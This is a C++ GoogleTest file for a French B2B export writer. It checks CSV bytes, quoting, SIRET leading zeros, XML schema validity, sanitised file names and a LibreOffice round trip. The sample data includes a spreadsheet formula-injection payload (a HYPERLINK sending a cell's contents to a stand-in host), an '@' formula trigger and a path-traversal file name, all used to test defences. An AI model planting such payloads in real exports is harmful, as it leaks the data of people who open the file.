// Tests of outbox/export_writer.cpp (docs/reference.md §5.2; docs/field-cases.md F29 BOM, F30 separator, F31 formula
// injection, F32 SIRET and leading zeros): the exact bytes of the CSV export (BOM, header line, CRLF,
// RFC 4180 quoting of a raison sociale holding ';', '"' and a newline), the XML export validated against
// samples/xsd/export.xsd with xmllint, the file name, and — when LibreOffice is installed — the cells
// LibreOffice reads back from a sample export.
#include "outbox/export_writer.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "tests/support/command.hpp"
#include "tests/support/csv.hpp"
#include "tests/support/dates.hpp"
#include "tests/support/files.hpp"
#include "tests/support/xml_check.hpp"

namespace raccord::outbox {
namespace {

namespace fs = std::filesystem;

using raccord::testing::civil_date;
using raccord::testing::instant;
using raccord::testing::parse_csv;
using raccord::testing::read_file;
using raccord::testing::shell_quote;
using raccord::testing::TempDir;
using raccord::testing::xmllint_available;
using raccord::testing::xmllint_file;
using raccord::testing::XmllintResult;

const fs::path kXsd = raccord::testing::xsd_path("export.xsd");

SearchRow edi(std::string siret, std::string raison, std::string protocol, std::string code, std::string interface,
              std::string from, std::string to, SheetState state) {
  SearchRow r;
  r.partner_siret = std::move(siret);
  r.raison_sociale = std::move(raison);
  r.protocol = std::move(protocol);
  r.code_appli = std::move(code);
  r.interface_code = std::move(interface);
  r.period_from = civil_date(from);
  if (!to.empty()) r.period_to = civil_date(to);
  r.state = state;
  return r;
}

/// The sample rows: accents (F29), a SIRET with leading zeros (F32), a raison sociale with ';', '"' and a
/// newline (RFC 4180), one starting with '=' (F31), an open-ended period.
std::vector<SearchRow> sample_rows() {
  return {
      edi("00123456600006", "Société Générale d'Exemple", "SFTP", "VFE001", "FSO1100A", "2026-12-01", "2099-06-30",
          SheetState::Activee),
      edi("12345678200010", "ACME; \"Logistique\"\nSAS", "AS2", "VFE002", "FSO1101A", "2026-01-05", "",
          SheetState::EnvoyeeMaj),
      edi("35600000000048", "=HYPERLINK(\"http://exemple.invalid/?d=\"&A2;\"Cliquer\")", "PESIT", "VFE003", "FSO1102A",
          "2026-02-28", "2026-12-31", SheetState::Desactivee),
      edi("81034732800017", "@SUM(1+1) Équipe réseau", "SFTP", "VFE004", "FSO1105A", "2027-03-01", "",
          SheetState::Brouillon),
  };
}

std::string export_of(const std::vector<SearchRow>& rows, SheetKind kind, ExportFormat format,
                      std::string_view reference = "req-7") {
  std::ostringstream out;
  ExportWriter writer(out, kind, format, reference, instant("2026-11-29T22:10:04Z"));
  for (const auto& r : rows) writer.row(r);
  writer.finish();
  EXPECT_EQ(writer.rows(), rows.size());
  return out.str();
}

TEST(ExportWriterTest, CsvHeaderLinesAreExactlyTheGuides) {
  EXPECT_EQ(export_csv_header(SheetKind::Edi),
            "Partenaire;Protocole de raccordement;Code Appli partenaire;Code interface;Date de début;Date de fin;"
            "Etat courant");
  EXPECT_EQ(export_csv_header(SheetKind::Api), "Partenaire;Code Appli partenaire;Etat courant");
  // An empty export is the BOM and the header line only, ended by CRLF; no "sep=" line (F29).
  EXPECT_EQ(export_of({}, SheetKind::Edi, ExportFormat::Csv),
            "\xEF\xBB\xBF"
            "Partenaire;Protocole de raccordement;Code Appli partenaire;Code interface;Date de d\xC3\xA9"
            "but;"
            "Date de fin;Etat courant\r\n");
  EXPECT_EQ(export_of({}, SheetKind::Api, ExportFormat::Csv),
            "\xEF\xBB\xBFPartenaire;Code Appli partenaire;Etat courant\r\n");
}

TEST(ExportWriterTest, CsvBytesOfTheSampleRows) {
  const std::string csv = export_of(sample_rows(), SheetKind::Edi, ExportFormat::Csv);
  EXPECT_EQ(csv,
            "\xEF\xBB\xBF"
            "Partenaire;Protocole de raccordement;Code Appli partenaire;Code interface;Date de début;Date de fin;"
            "Etat courant\r\n"
            "00123456600006 - Société Générale d'Exemple;SFTP;VFE001;FSO1100A;01/12/2026;30/06/2099;Activée\r\n"
            "\"12345678200010 - ACME; \"\"Logistique\"\"\nSAS\";AS2;VFE002;FSO1101A;05/01/2026;;Envoyée MAJ\r\n"
            "\"35600000000048 - =HYPERLINK(\"\"http://exemple.invalid/?d=\"\"&A2;\"\"Cliquer\"\")\";PESIT;VFE003;"
            "FSO1102A;28/02/2026;31/12/2026;Désactivée\r\n"
            "81034732800017 - @SUM(1+1) Équipe réseau;SFTP;VFE004;FSO1105A;01/03/2027;;Brouillon\r\n");
  EXPECT_EQ(csv.find("sep="), std::string::npos);
  EXPECT_EQ(csv.find("=\"0"), std::string::npos);  // no ="…" wrapping of digits (docs/reference.md §5.2 wins over F32)
}

TEST(ExportWriterTest, CsvCellsReadBackExactlyWithLeadingZerosAndNoFormulaTrigger) {
  const auto rows = sample_rows();
  const std::string csv = export_of(rows, SheetKind::Edi, ExportFormat::Csv);
  ASSERT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
  const auto cells = parse_csv(std::string_view(csv).substr(3));
  ASSERT_EQ(cells.size(), rows.size() + 1);
  EXPECT_EQ(cells[0].size(), 7U);
  for (std::size_t i = 0; i < rows.size(); ++i) {
    const auto& c = cells[i + 1];
    ASSERT_EQ(c.size(), 7U) << i;
    EXPECT_EQ(c[0], rows[i].partner_siret + " - " + rows[i].raison_sociale);  // SIRET digits kept, as text
    EXPECT_EQ(c[1], rows[i].protocol);
    EXPECT_EQ(c[2], rows[i].code_appli);
    EXPECT_EQ(c[3], rows[i].interface_code);
    EXPECT_EQ(c[6], to_label(rows[i].state));
  }
  EXPECT_EQ(cells[1][0].substr(0, 14), "00123456600006");
  EXPECT_EQ(cells[2][5], "");  // open-ended period: Date de fin empty
  // F31: no cell of the file starts with a formula trigger.
  for (const auto& row : cells) {
    for (const auto& cell : row) {
      if (cell.empty()) continue;
      EXPECT_EQ(std::string("=+-@\t\r\n").find(cell.front()), std::string::npos) << cell;
    }
  }
}

TEST(ExportWriterTest, CsvApiRows) {
  SearchRow r;
  r.partner_siret = "00123456600006";
  r.raison_sociale = "Zéro; \"API\"";
  r.code_appli = "VFE010";
  r.state = SheetState::Envoyee;
  EXPECT_EQ(export_of({r}, SheetKind::Api, ExportFormat::Csv),
            "\xEF\xBB\xBFPartenaire;Code Appli partenaire;Etat courant\r\n"
            "\"00123456600006 - Zéro; \"\"API\"\"\";VFE010;Envoyée\r\n");
}

TEST(ExportWriterTest, XmlExportHoldsTheSameRowsAndValidatesAgainstTheSchema) {
  if (!xmllint_available()) GTEST_SKIP() << "xmllint absent";
  auto rows = sample_rows();
  rows[1].raison_sociale += " <&> \x01 fin";  // markup characters escaped, a control character made visible
  TempDir tmp;
  for (const SheetKind kind : {SheetKind::Edi, SheetKind::Api}) {
    for (const bool empty : {false, true}) {
      const std::string xml =
          export_of(empty ? std::vector<SearchRow>{} : rows, kind, ExportFormat::Xml, "req \"7\" & <b>");
      const fs::path file = tmp.path() / (std::string(to_code(kind)) + (empty ? "_vide" : "") + ".xml");
      std::ofstream(file, std::ios::binary) << xml;
      const XmllintResult lint = xmllint_file(file, kXsd);
      EXPECT_EQ(lint.status, 0) << xml << lint.log;
    }
  }
  const std::string xml = export_of(rows, SheetKind::Edi, ExportFormat::Xml);
  EXPECT_NE(xml.find("<Ligne partenaire=\"00123456600006\" raisonSociale=\"Société Générale d'Exemple\" "
                     "protocole=\"SFTP\" codeAppli=\"VFE001\" codeInterface=\"FSO1100A\" debut=\"2026-12-01\" "
                     "fin=\"2099-06-30\" etat=\"ACTIVEE\" libelleEtat=\"Activée\"/>"),
            std::string::npos)
      << xml;
  EXPECT_NE(xml.find("codeAppli=\"VFE002\" codeInterface=\"FSO1101A\" debut=\"2026-01-05\" etat=\"ENVOYEE_MAJ\""),
            std::string::npos)
      << xml;  // open-ended: no fin
  EXPECT_NE(xml.find("&lt;&amp;&gt;"), std::string::npos);
  EXPECT_EQ(xml.find('\x01'), std::string::npos);
}

TEST(ExportWriterTest, BaseNameFollowsSpec) {
  const Instant t = instant("2026-11-29T22:10:04Z");
  EXPECT_EQ(export_base_name(SheetKind::Edi, "req-7", t), "EXPORT_EDI_req-7_20261129T221004Z");
  EXPECT_EQ(export_base_name(SheetKind::Api, "", t), "EXPORT_API_recherche_20261129T221004Z");
  EXPECT_EQ(export_base_name(SheetKind::Edi, "../a b", t), "EXPORT_EDI____a_b_20261129T221004Z");
  EXPECT_EQ(export_base_name(SheetKind::Edi, std::string(100, 'x'), t),
            "EXPORT_EDI_" + std::string(64, 'x') + "_20261129T221004Z");
}

// Finding 6 (docs/reference.md §5.2): a character outside A-Za-z0-9_- gives one "_", whatever its UTF-8 length;
// the limit of 64 counts characters.
TEST(ExportWriterTest, BaseNameReplacesEachCharacterNotEachByte) {
  const Instant t = instant("2026-11-30T10:00:00Z");
  EXPECT_EQ(export_base_name(SheetKind::Edi, "réf-été", t), "EXPORT_EDI_r_f-_t__20261130T100000Z");
  EXPECT_EQ(export_base_name(SheetKind::Api, "réf15", t), "EXPORT_API_r_f15_20261130T100000Z");
  // 2-, 3- and 4-byte sequences: é, €, 😀.
  EXPECT_EQ(export_base_name(SheetKind::Edi, "a\u00e9b\u20acc\U0001F600d", t), "EXPORT_EDI_a_b_c_d_20261130T100000Z");
  // 40 accented letters then "xyz": 40 "_" and the whole "xyz" fit within 64 characters.
  std::string accents;
  for (int i = 0; i < 40; ++i) accents += "é";
  EXPECT_EQ(export_base_name(SheetKind::Edi, accents + "xyz", t),
            "EXPORT_EDI_" + std::string(40, '_') + "xyz_20261130T100000Z");
  std::string many;
  for (int i = 0; i < 70; ++i) many += "€";
  EXPECT_EQ(export_base_name(SheetKind::Edi, many, t), "EXPORT_EDI_" + std::string(64, '_') + "_20261130T100000Z");
  // Bytes that start no well-formed sequence (Latin-1 é, truncated or overlong UTF-8): one "_" each.
  EXPECT_EQ(export_base_name(SheetKind::Edi, std::string("r\xe9") + "f", t), "EXPORT_EDI_r_f_20261130T100000Z");
  EXPECT_EQ(export_base_name(SheetKind::Edi, "r\xc3", t), "EXPORT_EDI_r__20261130T100000Z");
  EXPECT_EQ(export_base_name(SheetKind::Edi, "\xc0\xafz", t), "EXPORT_EDI___z_20261130T100000Z");
  EXPECT_EQ(export_base_name(SheetKind::Edi, "\xe2\x82z", t), "EXPORT_EDI___z_20261130T100000Z");
}

// Issue 5 "Done when": opening a sample export in LibreOffice gives the same cells, accents intact and
// the SIRET never in scientific notation. Skipped when LibreOffice is not installed (it is not installed
// for the tests; see docs).
TEST(ExportWriterTest, LibreOfficeReadsTheSameCells) {
  std::string soffice;
  for (const char* candidate : {"/usr/bin/soffice", "/usr/bin/libreoffice"}) {
    if (fs::exists(candidate)) {
      soffice = candidate;
      break;
    }
  }
  if (soffice.empty()) GTEST_SKIP() << "LibreOffice absent (/usr/bin/soffice, /usr/bin/libreoffice)";
  TempDir tmp;
  const auto rows = sample_rows();
  fs::create_directories(tmp.path() / "in");
  fs::create_directories(tmp.path() / "out");
  const fs::path input = tmp.path() / "in" / "export.csv";
  std::ofstream(input, std::ios::binary) << export_of(rows, SheetKind::Edi, ExportFormat::Csv);
  // Import as French Excel would see it (';', '"', UTF-8, fr-FR, standard type detection), export again
  // as UTF-8 CSV with ';' and '"'.
  // LC_ALL=C pins LibreOffice's own locale to en-US, so the dates it writes back are m/d/yy.
  const std::string cmd = "cd " + shell_quote(tmp.path().string()) +
                          " && LC_ALL=C HOME=" + shell_quote(tmp.path().string()) + " " + shell_quote(soffice) +
                          " --headless --norestore --infilter=" + shell_quote("CSV:59,34,76,1,,1036") +
                          " --convert-to " + shell_quote("csv:Text - txt - csv (StarCalc):59,34,76,1") + " --outdir " +
                          shell_quote((tmp.path() / "out").string()) + " " + shell_quote(input.string()) + " >" +
                          shell_quote((tmp.path() / "log").string()) + " 2>&1";
  ASSERT_EQ(std::system(cmd.c_str()), 0) << read_file(tmp.path() / "log");
  std::string back = read_file(tmp.path() / "out" / "export.csv");
  if (back.substr(0, 3) == "\xEF\xBB\xBF") back.erase(0, 3);
  // LibreOffice ends lines with LF: normalise outside quotes is not needed for the comparison below.
  std::string crlf;
  for (std::size_t i = 0; i < back.size(); ++i) {
    if (back[i] == '\n' && (i == 0 || back[i - 1] != '\r')) crlf += '\r';
    crlf += back[i];
  }
  const auto cells = parse_csv(crlf);
  ASSERT_GE(cells.size(), rows.size() + 1) << back;
  EXPECT_EQ(cells[0][4], "Date de début");
  for (std::size_t i = 0; i < rows.size(); ++i) {
    const auto& c = cells[i + 1];
    ASSERT_GE(c.size(), 7U) << back;
    // Text cells identical (accents intact; the SIRET as its digits, never 1,23E+13).
    std::string partner = rows[i].partner_siret + " - " + rows[i].raison_sociale;
    std::string got = c[0];
    got.erase(std::remove(got.begin(), got.end(), '\r'), got.end());
    EXPECT_EQ(got, partner) << back;
    EXPECT_EQ(c[0].find("E+"), std::string::npos);
    EXPECT_EQ(c[1], rows[i].protocol);
    EXPECT_EQ(c[2], rows[i].code_appli);
    EXPECT_EQ(c[3], rows[i].interface_code);
    EXPECT_EQ(c[6], to_label(rows[i].state));
    // Dates read as fr-FR dates (day first: 01/03/2027 is the 1st of March), written back by the
    // en-US LibreOffice as m/d/yy: "03/01/27". A month-first reading would give "01/03/27".
    const auto& d = *rows[i].period_from;
    char us[16];
    std::snprintf(us, sizeof us, "%02u/%02u/%02d", static_cast<unsigned>(d.month()), static_cast<unsigned>(d.day()),
                  static_cast<int>(d.year()) % 100);
    EXPECT_EQ(c[4], us) << back;
  }
}

}  // namespace
}  // namespace raccord::outbox
